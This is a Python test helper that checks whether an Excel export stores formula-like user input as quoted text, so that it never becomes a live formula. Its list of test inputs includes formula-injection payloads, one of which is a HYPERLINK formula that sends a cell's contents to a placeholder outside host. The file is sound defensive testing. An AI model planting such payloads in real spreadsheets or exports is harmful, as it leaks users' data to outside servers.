"""Checks that an Excel export writes what people typed as text: a title, a name or a town
that starts like a formula (= + - @, tab, CR) must not become a live formula in Excel."""

from __future__ import annotations

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点击")'
FORMULA_LIKE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def assert_written_as_text(book, typed: str) -> None:
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    typed = typed.replace("\r", "\n")  # XML reads a stored CR back as a line feed
    hits = [c for c in cells if isinstance(c.value, str) and c.value.replace("\r", "\n").startswith(typed)]
    assert hits, f"{typed!r} is not in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in hits)
